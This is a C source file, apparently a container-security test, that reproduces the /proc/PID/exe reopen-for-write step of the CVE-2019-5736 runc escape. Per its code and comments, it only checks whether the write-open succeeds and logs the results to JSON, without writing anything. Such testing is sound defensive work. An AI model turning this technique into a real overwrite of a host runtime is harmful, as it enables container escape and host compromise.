/* CVE-2019-5736 from inside a container: grab /proc/PID/exe of every process that appears, then
 * try to reopen it for writing through /proc/self/fd/N — at once, and again at the end, after the
 * runtime's processes are gone (the original exploit waited for runc to exit).
 *
 *   exe_attack OUTDIR SECONDS
 *
 * Writes OUTDIR/ready once scanning, stops when OUTDIR/stop appears (or after SECONDS), then writes
 * one JSON object per process seen to OUTDIR/report.json and creates OUTDIR/done. It NEVER writes
 * to a file it opened for writing: a successful open is closed at once and reported.
 * A child running `sleep` (an ordinary, dumpable process) is the positive control: its exe must
 * open, or the scanner proves nothing.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 8192

struct seen {
    int pid, e_path, e_ro, e_wr, e_wr_late, fd;
    char comm[32];
    unsigned long long dev, ino;
    unsigned int nlink;
};

static struct seen seen[MAX_SEEN];
static int nseen;
static char seen_map[1 << 22];  /* pid -> seen (pid_max is at most 4M) */

static int reopen_for_write(int fd) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY | O_CLOEXEC);   /* no O_TRUNC, and never a write() */
    if (w >= 0) {
        close(w);
        return 0;
    }
    return errno;
}

static void grab(int pid) {
    struct seen *s = &seen[nseen++];
    char p[64];
    struct stat st;
    memset(s, 0, sizeof *s);
    s->pid = pid;
    s->fd = -1;
    s->e_wr = s->e_wr_late = -1;
    snprintf(p, sizeof p, "/proc/%d/comm", pid);
    int c = open(p, O_RDONLY | O_CLOEXEC);
    if (c >= 0) {
        ssize_t n = read(c, s->comm, sizeof s->comm - 1);
        if (n > 0 && s->comm[n - 1] == '\n') s->comm[n - 1] = 0;
        close(c);
    }
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fp = open(p, O_PATH | O_CLOEXEC);
    s->e_path = fp < 0 ? errno : 0;
    int fr = open(p, O_RDONLY | O_CLOEXEC);
    s->e_ro = fr < 0 ? errno : 0;
    int keep = fp >= 0 ? fp : fr;
    if (fp >= 0 && fr >= 0) close(fr);
    if (keep >= 0) {
        s->fd = keep;
        if (fstat(keep, &st) == 0) {
            s->dev = st.st_dev;
            s->ino = st.st_ino;
            s->nlink = st.st_nlink;
        }
        s->e_wr = reopen_for_write(keep);
    }
}

static int exists(const char *dir, const char *name) {
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    return access(p, F_OK) == 0;
}

static void touch(const char *dir, const char *name) {
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0) close(fd);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exe_attack OUTDIR SECONDS\n");
        return 2;
    }
    const char *out = argv[1];
    double seconds = atof(argv[2]);
    signal(SIGCHLD, SIG_IGN);
    pid_t control = fork();
    if (control == 0) {
        execl("/bin/sleep", "sleep", "1000", (char *)NULL);
        _exit(127);
    }
    int self = getpid();
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    touch(out, "ready");
    unsigned long scans = 0;
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d) break;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid >= (int)sizeof seen_map || seen_map[pid] || nseen >= MAX_SEEN) continue;
            seen_map[pid] = 1;
            grab(pid);
        }
        closedir(d);
        scans++;
        if ((scans & 63) == 0) {
            clock_gettime(CLOCK_MONOTONIC, &t);
            if (exists(out, "stop") || (t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
        }
    }
    /* the original exploit's second step: the runtime has exited, try again */
    for (int i = 0; i < nseen; i++)
        if (seen[i].fd >= 0) seen[i].e_wr_late = reopen_for_write(seen[i].fd);
    kill(control, SIGKILL);
    char p[4096];
    snprintf(p, sizeof p, "%s/report.json", out);
    FILE *f = fopen(p, "w");
    if (!f) return 1;
    fprintf(f, "{\"scans\": %lu, \"control\": %d, \"seen\": [\n", scans, control);
    for (int i = 0; i < nseen; i++) {
        struct seen *s = &seen[i];
        fprintf(f, "%s{\"pid\": %d, \"comm\": \"", i ? ",\n" : "", s->pid);
        for (char *c = s->comm; *c; c++) fputc(*c == '"' || *c == '\\' || *c < 32 ? '?' : *c, f);
        fprintf(f, "\", \"path\": %d, \"ro\": %d, \"wr\": %d, \"wr_late\": %d, \"dev\": %llu, \"ino\": %llu, \"nlink\": %u}",
                s->e_path, s->e_ro, s->e_wr, s->e_wr_late, s->dev, s->ino, s->nlink);
    }
    fprintf(f, "\n]}\n");
    fclose(f);
    touch(out, "done");
    return 0;
}
